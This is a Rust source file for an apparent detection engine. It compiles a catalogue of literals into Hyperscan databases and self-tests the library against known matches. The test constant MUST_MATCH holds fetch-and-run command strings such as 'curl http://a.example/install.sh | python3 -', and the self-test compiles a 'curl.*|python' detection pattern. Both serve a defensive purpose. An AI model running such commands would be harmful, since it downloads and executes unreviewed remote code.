//! Turns the catalogue's literals into Hyperscan databases, and refuses a library that misses matches.
//!
//! Invariant: the databases hold literals only, scanned in block mode for end offsets; what stands at a match is decided in Rust.

use std::collections::{HashMap, HashSet};
use std::fmt;

use hyperscan::prelude::*;
use hyperscan::{PatternFlags, Patterns};

use crate::detector::written::WrittenError;
use crate::detector::{Anchor, Detector};

/// Why there is no engine.
#[derive(Debug)]
pub enum EngineError {
    /// The library found less than it must in texts with known matches; it is not fit to guard anything.
    MissesMatches {
        /// The library's version.
        version: String,
    },
    /// The library refused the catalogue or had no memory.
    Library(hyperscan::Error),
    /// A file of the built-in catalogue cannot be read.
    Catalogue(&'static str, WrittenError),
}

impl fmt::Display for EngineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EngineError::MissesMatches { version } => {
                write!(f, "the pattern library {version} misses known matches; build with Intel Hyperscan 5.4 (libhyperscan-dev)")
            }
            EngineError::Catalogue(file, error) => write!(f, "the catalogue's file {file} cannot be read: {error}"),
            EngineError::Library(error) => write!(f, "the pattern library failed: {error}"),
        }
    }
}

impl std::error::Error for EngineError {}

impl From<hyperscan::Error> for EngineError {
    fn from(error: hyperscan::Error) -> Self {
        EngineError::Library(error)
    }
}

/// The compiled literals of all detectors, in two databases: one for literals that are looked for everywhere, and one for the names of
/// things, which are looked for only in front of what may be a value. There are hundreds of these, in any case of letters, and looking for
/// them everywhere costs more than all the rest.
pub(crate) struct Literals {
    everywhere: BlockDatabase,
    words: BlockDatabase,
    entries: Vec<Entry>,
    /// The numbers of literals that are looked for everywhere and hold a space, so that they are of more than one word.
    spaced: Vec<usize>,
    /// The beginnings of literals that values begin with.
    beginnings: HashSet<Box<[u8]>, ahash::RandomState>,
}

/// Bytes of a literal's beginning that may be one rather than the end of any word.
const BEGINNING_BYTES_MIN: usize = 3;

/// One literal, and who waits for it.
pub(crate) struct Entry {
    text: String,
    pub(crate) any_case: bool,
    /// Whether it is looked for in front of values only.
    is_word: bool,
    pub(crate) detectors: Vec<usize>,
}

impl Entry {
    /// How many bytes the literal has.
    pub(crate) fn length(&self) -> usize {
        self.text.len()
    }
}

impl Literals {
    pub(crate) fn compile(detectors: &[Detector]) -> Result<Literals, EngineError> {
        let mut entries: Vec<Entry> = Vec::new();
        let mut places: HashMap<(&str, bool, bool), usize> = HashMap::new();
        for (number, detector) in detectors.iter().enumerate() {
            for anchor in &detector.anchors {
                let (text, any_case, is_word) = match anchor {
                    Anchor::Literal(text) => (text.as_ref(), false, false),
                    Anchor::AnyCase(text) => (text.as_ref(), true, false),
                    Anchor::Word(text) => (text.as_ref(), true, true),
                    _ => continue,
                };
                let place = *places.entry((text, any_case, is_word)).or_insert_with(|| {
                    entries.push(Entry { text: text.to_owned(), any_case, is_word, detectors: Vec::new() });
                    entries.len() - 1
                });
                entries[place].detectors.push(number);
            }
        }
        let (everywhere, words) = (build(&entries, false)?, build(&entries, true)?);
        let is_spaced = |entry: &Entry| !entry.is_word && entry.text.contains(char::is_whitespace);
        let spaced = (0..entries.len()).filter(|&number| is_spaced(&entries[number])).collect();
        let of_values = entries.iter().filter(|entry| !entry.any_case).map(|entry| entry.text.as_bytes());
        let heads = of_values.flat_map(|text| (BEGINNING_BYTES_MIN..text.len()).map(|length| &text[..length]));
        // What is written like any word is no sign of a value.
        let beginnings = heads.filter(|head| !head.iter().all(u8::is_ascii_lowercase)).map(Into::into).collect();
        Ok(Literals { everywhere, words, entries, spaced, beginnings })
    }

    pub(crate) fn scratch(&self) -> Result<Scratch, EngineError> {
        let mut scratch = self.everywhere.alloc_scratch()?;
        self.words.realloc_scratch(&mut scratch)?;
        Ok(scratch)
    }

    /// The literal of this number.
    pub(crate) fn entry(&self, number: u32) -> &Entry {
        &self.entries[number as usize]
    }

    /// Where, at the end of a text, the beginning of a literal stands that values begin with; the text's end where none does.
    pub(crate) fn beginning(&self, text: &[u8]) -> usize {
        let longest = (BEGINNING_BYTES_MIN..24).rev().filter(|length| *length <= text.len());
        let length = longest.into_iter().find(|length| self.beginnings.contains(&text[text.len() - length..]));
        text.len() - length.unwrap_or(0)
    }

    /// Where, at the end of a text, the first words of a literal stand of which the last ones are still to come; the text's end where none do.
    pub(crate) fn spaced_beginning(&self, text: &[u8]) -> usize {
        let ends_with = |entry: &Entry, length: usize| {
            let (tail, head) = (&text[text.len().saturating_sub(length)..], &entry.text.as_bytes()[..length]);
            if entry.any_case { tail.eq_ignore_ascii_case(head) } else { tail == head }
        };
        let longest = |&number: &usize| {
            let entry = &self.entries[number];
            (1..entry.length()).rev().find(|&length| ends_with(entry, length))
        };
        text.len() - self.spaced.iter().filter_map(longest).max().unwrap_or(0)
    }

    /// Calls `each` with the number of the literal and the end offset of every match of a literal that is looked for everywhere.
    pub(crate) fn scan(&self, text: &[u8], scratch: &Scratch, each: impl FnMut(u32, usize)) {
        scan(&self.everywhere, text, scratch, each);
    }

    /// The same for the names of things.
    pub(crate) fn scan_words(&self, text: &[u8], scratch: &Scratch, each: impl FnMut(u32, usize)) {
        scan(&self.words, text, scratch, each);
    }
}

fn scan(database: &BlockDatabase, text: &[u8], scratch: &Scratch, mut each: impl FnMut(u32, usize)) {
    let found = |id: u32, _from: u64, to: u64, _flags: u32| {
        each(id, to as usize);
        Matching::Continue
    };
    // A block scan of memory that we hold fails only for a scratch of another database, and ours comes from this one.
    let _ = database.scan(text, scratch, found);
}

fn build(entries: &[Entry], words: bool) -> Result<BlockDatabase, EngineError> {
    let mut patterns = Vec::with_capacity(entries.len());
    for (id, entry) in entries.iter().enumerate().filter(|(_, entry)| entry.is_word == words) {
        let flags = if entry.any_case { PatternFlags::CASELESS } else { PatternFlags::empty() };
        let mut pattern = Pattern::with_flags(escape(&entry.text), flags)?;
        pattern.id = Some(id);
        patterns.push(pattern);
    }
    if patterns.is_empty() {
        // The library compiles no empty set; this is in no text.
        patterns.push(Pattern::new("\\xff\\xfe\\xff\\xfe\\xff")?);
    }
    Ok(Patterns(patterns).build()?)
}

/// The literal as a pattern: everything but letters and digits by its code.
fn escape(literal: &str) -> String {
    literal.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("\\x{b:02x}") }).collect()
}

/// Texts in which some builds of a related library find nothing although each holds a match (reported upstream, and reproduced).
const MUST_MATCH: [&str; 3] =
    ["curl http://xxx:8000/ 2>&1 | python", "curl http://a.example/install.sh | python3 -", "sh -c 'curl -s x |python'"];

/// Scans texts with known matches.
///
/// # Errors
/// [`EngineError::MissesMatches`] when one is missed.
pub(crate) fn self_test(literals: &Literals) -> Result<(), EngineError> {
    let flags = PatternFlags::DOTALL;
    let database: BlockDatabase = Pattern::with_flags(r"curl.*\|\s*python", flags)?.build()?;
    let scratch = database.alloc_scratch()?;
    let matches = |text: &str| {
        let mut count = 0;
        let scanned = database.scan(text, &scratch, |_, _, _, _| {
            count += 1;
            Matching::Continue
        });
        scanned.is_ok() && count > 0
    };
    let mut is_fit = MUST_MATCH.iter().all(|text| matches(text));
    // Every literal of the catalogue, at every offset of a vector register.
    let scratch = literals.scratch()?;
    for (number, entry) in literals.entries.iter().enumerate() {
        let text = if entry.any_case { entry.text.to_uppercase() } else { entry.text.clone() };
        for offset in 0..64 {
            let padded = format!("{}{text}{}", "~".repeat(offset), "~".repeat(64 - offset));
            let mut found = false;
            let is_it = |id: u32, end| id as usize == number && end == offset + text.len();
            match entry.is_word {
                true => literals.scan_words(padded.as_bytes(), &scratch, |id, end| found |= is_it(id, end)),
                false => literals.scan(padded.as_bytes(), &scratch, |id, end| found |= is_it(id, end)),
            }
            is_fit &= found;
        }
    }
    let version = || hyperscan::version_str().to_string_lossy().into_owned();
    if is_fit { Ok(()) } else { Err(EngineError::MissesMatches { version: version() }) }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use std::collections::BTreeSet;
    use std::sync::LazyLock;

    use super::*;
    use crate::Catalogue;
    use proptest::prelude::*;
    use regex::bytes::{Regex, RegexBuilder};

    /// The literals as the library has them, and each as another engine does.
    static BOTH: LazyLock<(Literals, Vec<Regex>)> = LazyLock::new(|| {
        let catalogue = Catalogue::built_in().unwrap();
        let literals = Literals::compile(catalogue.detectors()).unwrap();
        let regex = |entry: &Entry| {
            RegexBuilder::new(&regex_syntax::escape(&entry.text)).case_insensitive(entry.any_case).unicode(false).build().unwrap()
        };
        let regexes = literals.entries.iter().map(regex).collect();
        (literals, regexes)
    });

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]

        #[test]
        fn the_library_finds_what_another_engine_finds(
            parts in prop::collection::vec((any::<prop::sample::Index>(), 0usize..30, any::<bool>(), "[ -~é\n]{0,12}"), 0..12),
        ) {
            let (literals, regexes) = &*BOTH;
            let mut text = String::new();
            for (which, cut, upper, between) in parts {
                let literal = &literals.entries[which.index(literals.entries.len())].text;
                let literal: String = literal.chars().skip(cut / 10).collect();
                text += &if upper { literal.to_uppercase() } else { literal };
                text += &between;
            }
            let scratch = literals.scratch().unwrap();
            let mut found = BTreeSet::new();
            literals.scan(text.as_bytes(), &scratch, |literal, end| { found.insert((literal as usize, end)); });
            literals.scan_words(text.as_bytes(), &scratch, |literal, end| { found.insert((literal as usize, end)); });
            let mut expected = BTreeSet::new();
            for (number, regex) in regexes.iter().enumerate() {
                let mut from = 0;
                while let Some(hit) = regex.find_at(text.as_bytes(), from) {
                    expected.insert((number, hit.end()));
                    from = hit.start() + 1;
                }
            }
            prop_assert_eq!(found, expected, "{:?}", text);
        }
    }
}
